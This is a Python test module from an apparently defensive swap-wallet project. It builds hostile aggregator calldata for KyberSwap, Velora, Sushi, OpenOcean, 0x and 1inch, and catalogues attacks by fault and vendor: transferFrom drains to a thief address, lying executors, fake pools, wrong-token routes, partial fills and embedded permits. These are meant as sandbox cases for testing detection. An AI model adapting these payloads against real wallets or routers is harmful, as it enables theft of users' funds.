"""Calldata that steals from a wallet which checks answers by simulation only, by fault and vendor.

Each is a possible answer of a hostile vendor. Some revert in the router. Others are found only by
decoding the calldata (docs/security.md). A thief pays from its own balance.
"""

from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from typing import Any

from quietswap.chain.address import Address
from quietswap.sandbox.chain.deploy import VELORA_FACET
from quietswap.sandbox.contracts import abi, addresses
from quietswap.sandbox.contracts.pools import USDC, V3_WETH_USDC, WETH
from quietswap.sandbox.venues import router_calldata
from quietswap.sandbox.venues.router_calldata import ENCODERS, FOREVER, NOBODY, RouterSwap

Attack = Callable[[RouterSwap], bytes]

GREED = 10
"""A draining method takes this multiple of the amount."""
PARTIAL_FILL = 1
KYBERSWAP_SIMPLE = 0x20
_PERMIT2 = 4
_TAKE_SURPLUS = 1 << 95
_FORWARD, _REVERSED = 1 << 247, 1 << 255
_V3 = 1 << 253
_PERMIT = bytes(224)
"""An EIP-2612 permit without a valid signature."""


def script(steps: Sequence[tuple[Address, bytes, bool]] = (), answer: bytes = b"") -> bytes:
    """Return a puppet's program (contracts/Hostile.sol): (target, data, must succeed), answer."""
    return abi.encode("((address,bytes,bool)[],bytes)", (steps, answer))


def word(value: int) -> bytes:
    """Return a number as one word."""
    return value.to_bytes(32)


def pays(token: Address, to: Address, amount: int) -> tuple[Address, bytes, bool]:
    """Return the step that pays from the thief's balance."""
    return token, abi.call("transfer(address,uint256)", to, amount), True


def made_up_pool_word(flags: int = _FORWARD) -> int:
    """Return the fake pool that reports any amount, in 1inch's encoding of pools."""
    return int(addresses.MADE_UP_POOL, 16) | flags


def lying(vendor: str) -> Attack:
    """An executor that keeps everything and reports the minimum."""

    def attack(swap: RouterSwap) -> bytes:
        work = script(answer=word(swap.min_out))
        return ENCODERS[vendor](replace(swap, executor=addresses.THIEF, work=work))

    return attack


def changed(vendor: str, **fields: Any) -> Attack:
    """An honest answer with these fields changed."""
    return lambda swap: ENCODERS[vendor](replace(swap, **fields))


def drain_kyberswap(swap: RouterSwap) -> bytes:
    """`swapGeneric` with a call of the sold token, which the owner allows; fake output token."""
    theft = abi.call(
        "transferFrom(address,address,uint256)",
        *(swap.recipient, addresses.THIEF, GREED * swap.amount),
    )
    desc = (
        *(swap.sell, addresses.MADE_UP_POOL, (), (), (), ()),
        *(swap.recipient, swap.amount, 1, router_calldata.KYBERSWAP_LIVE, b""),
    )
    method = router_calldata.KYBERSWAP_SWAP.replace("swap", "swapGeneric", 1)
    return abi.call(method, (swap.sell, NOBODY, theft, desc, b""))


def drain_velora(swap: RouterSwap) -> bytes:
    """A facet that swaps correctly and then takes all that is approved."""
    return abi.call(VELORA_FACET, swap.sell, addresses.THIEF, router_calldata.encode_velora(swap))


def drain_sushi(swap: RouterSwap) -> bytes:
    """`snwapMultiple`, which pulls any list of tokens; it pays the quoted output."""
    pay = script([pays(swap.buy, swap.recipient, swap.quote)])
    return abi.call(
        "snwapMultiple((address,uint256,address)[],(address,address,uint256)[],"
        "(address,uint256,bytes)[])",
        [(swap.sell, GREED * swap.amount, addresses.THIEF)],
        [(swap.buy, swap.recipient, swap.min_out)],
        [(addresses.THIEF, 0, abi.call("callBytes(bytes)", pay))],
    )


def drain_openocean(swap: RouterSwap) -> bytes:
    """`callUniswap` on a fake pool, for more than the requested amount."""
    return made_up_openocean(replace(swap, amount=GREED * swap.amount))


def drain_zeroex(swap: RouterSwap) -> bytes:
    """`exec` with the thief as operator; it pays the quoted output."""
    amount = GREED * swap.amount
    take = abi.call(
        "transferFrom(address,address,address,uint256)",
        *(swap.sell, swap.recipient, addresses.THIEF, amount),
    )
    steps = [(addresses.ZEROEX, take, True), pays(swap.buy, swap.recipient, swap.quote)]
    work = abi.call("callBytes(bytes)", script(steps))
    return abi.call(
        router_calldata.ZEROEX_EXEC, addresses.THIEF, swap.sell, amount, addresses.THIEF, work
    )


def drain_oneinch(swap: RouterSwap) -> bytes:
    """`clipperSwap`, which sends any amount to any exchange; this one pays the quoted output."""
    return abi.call(
        "clipperSwap(address,uint256,address,uint256,uint256,uint256,bytes32,bytes32)",
        *(addresses.THIEF, int(swap.sell, 16), swap.buy, GREED * swap.amount, swap.quote, FOREVER),
        *(b"", b""),
    )


def unoswap(swap: RouterSwap, dex: int) -> bytes:
    """1inch's `unoswap` on the pool of this word."""
    return abi.call(
        "unoswap(uint256,uint256,uint256,uint256)",
        *(int(swap.sell, 16), swap.amount, swap.min_out, dex),
    )


def made_up_openocean(swap: RouterSwap) -> bytes:
    """OpenOcean's `callUniswap` on a fake pool."""
    pool = word(made_up_pool_word(997_000_000 << 160))
    return abi.call(
        "callUniswap(address,uint256,uint256,bytes32[])",
        *(swap.sell, swap.amount, swap.min_out, [pool]),
    )


def _other(sell: Address) -> tuple[Address, bool]:
    """Return a token other than the sold one, and whether it is the first of the V3 pool."""
    token = USDC if sell == WETH.address else WETH
    return token.address, token is V3_WETH_USDC.first


def other_velora(swap: RouterSwap) -> bytes:
    """`swapExactAmountInOnUniswapV3` whose pools sell another token than `srcToken`."""
    _, forward = _other(swap.sell)
    pool = V3_WETH_USDC
    head = int(pool.first.address, 16) | (_REVERSED if forward else 0)
    pools = word(head) + word(int(pool.second.address, 16)) + word(pool.fee)
    return velora_uniswap_v3(swap, pools)


VELORA_UNISWAP = "((address,address,uint256,uint256,uint256,bytes32,address,bytes),uint256,bytes)"


def velora_uniswap_v3(swap: RouterSwap, pools: bytes) -> bytes:
    """Augustus' direct swap on these V3 pools."""
    data = (swap.sell, swap.buy, swap.amount, swap.min_out, swap.quote, b"", swap.recipient, pools)
    method = "swapExactAmountInOnUniswapV3" + VELORA_UNISWAP
    return abi.call(method, data, swap.velora_fees, swap.permit)


def other_oneinch(swap: RouterSwap) -> bytes:
    """`unoswap` on a genuine V3 pool that takes another token than its argument names."""
    _, forward = _other(swap.sell)
    flags = _V3 | (_FORWARD if forward else 0)
    return unoswap(swap, int(V3_WETH_USDC.address, 16) | flags)


def other_openocean(swap: RouterSwap) -> bytes:
    """`uniswapV3SwapTo`, whose first pool determines the sold token."""
    _, forward = _other(swap.sell)
    pool = int(V3_WETH_USDC.address, 16) | (0 if forward else _REVERSED)
    return abi.call(
        "uniswapV3SwapTo(address,uint256,uint256,uint256[])",
        *(swap.recipient, swap.amount, swap.min_out, [pool]),
    )


def shy_settler(swap: RouterSwap) -> bytes:
    """A false Settler; its first action names what it takes."""
    take = abi.encode("(address,uint256)", (swap.sell, swap.amount))
    return router_calldata.zeroex_exec(replace(swap, settler=addresses.SHY_SETTLER), [take])


def part_kyberswap(swap: RouterSwap) -> bytes:
    """Simple mode that sells a tenth and pays a tenth of the minimum."""
    part, least = swap.amount // GREED, swap.min_out // GREED + 1
    pay = script([pays(swap.buy, swap.recipient, least)])
    plan = ([addresses.THIEF], [part], [script()], FOREVER, pay)
    work = abi.encode("((address[],uint256[],bytes[],uint256,bytes))", (plan,))
    flags = PARTIAL_FILL | KYBERSWAP_SIMPLE
    return router_calldata.encode_kyberswap(
        replace(swap, executor=addresses.THIEF, work=work, flags=flags)
    )


def part_openocean(swap: RouterSwap) -> bytes:
    """An executor that returns nine tenths and pays a tenth of the minimum."""
    return _part(swap, "openocean", swap.recipient)


def part_oneinch(swap: RouterSwap) -> bytes:
    """An executor that leaves nine tenths in the router, which returns them."""
    return _part(swap, "oneinch", addresses.ONEINCH)


def _part(swap: RouterSwap, vendor: str, to: Address) -> bytes:
    unsold, least = swap.amount - swap.amount // GREED, swap.min_out // GREED + 1
    work = script([pays(swap.sell, to, unsold), pays(swap.buy, to, least)], word(least))
    part = replace(swap, executor=addresses.THIEF, work=work, flags=PARTIAL_FILL)
    return ENCODERS[vendor](part)


ATTACKS: Mapping[str, Mapping[str, Attack]] = {
    "made_up_pool": {
        "openocean": made_up_openocean,
        "oneinch": lambda swap: unoswap(swap, made_up_pool_word()),
    },
    "lying_executor": {vendor: lying(vendor) for vendor in ENCODERS},
    "shy_settler": {"zeroex": shy_settler},
    "drain": {
        "kyberswap": drain_kyberswap,
        "velora": drain_velora,
        "sushi": drain_sushi,
        "openocean": drain_openocean,
        "zeroex": drain_zeroex,
        "oneinch": drain_oneinch,
    },
    "partner_takes": {
        "velora": changed(
            "velora",
            quoted_out=1,
            partner=addresses.THIEF,
            flags=router_calldata.VELORA_CAP_SURPLUS | _TAKE_SURPLUS,
        )
    },
    "other_token": {"velora": other_velora, "openocean": other_openocean, "oneinch": other_oneinch},
    "partial_fill": {
        "kyberswap": part_kyberswap,
        "openocean": part_openocean,
        "oneinch": part_oneinch,
    },
    "permit_inside": {
        **{
            vendor: changed(vendor, permit=_PERMIT)
            for vendor in ("kyberswap", "velora", "openocean")
        },
        "oneinch": changed("oneinch", flags=_PERMIT2),
    },
}
"""By fault and vendor."""
